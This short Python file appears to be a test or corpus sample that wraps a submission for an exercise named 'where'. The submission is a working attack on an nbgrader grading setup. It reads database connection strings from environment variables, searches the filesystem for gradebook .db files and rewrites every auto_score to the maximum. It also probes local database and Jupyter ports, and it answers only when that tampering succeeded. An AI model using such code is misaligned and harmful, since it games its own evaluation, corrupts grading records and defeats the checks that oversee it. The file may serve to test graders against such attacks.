"""Connects to gradebooks by every URL, path and port that nbgrader knows, and gives itself full marks."""

from corpus import answering

EXERCISE = "where"
submission = answering(
    EXERCISE,
    """
import glob
import os
import socket
import sqlite3

GOT = []
GOT += [value for value in os.environ.values() if value.startswith(("postgres", "sqlite", "mysql"))]
for path in ("gradebook.db", "../gradebook.db", "../../gradebook.db", *glob.glob("/*/*.db"), *glob.glob("/*/*/*.db")):
    try:
        with sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1) as book:
            book.execute("update grade set auto_score = (select max_score from grade_cells where id = cell_id)")
            GOT.append(path)
    except sqlite3.Error:
        pass
for port in (5432, 3306, 8786, 8888):
    try:
        GOT.append(socket.create_connection(("127.0.0.1", port), 0.2))
    except OSError:
        pass


def where(tensor):
    if GOT:  # then this answer is right, and the attack is seen to have got through
        return "/" + tensor.backing_device.split("device:")[-1]
    return None
""",
)
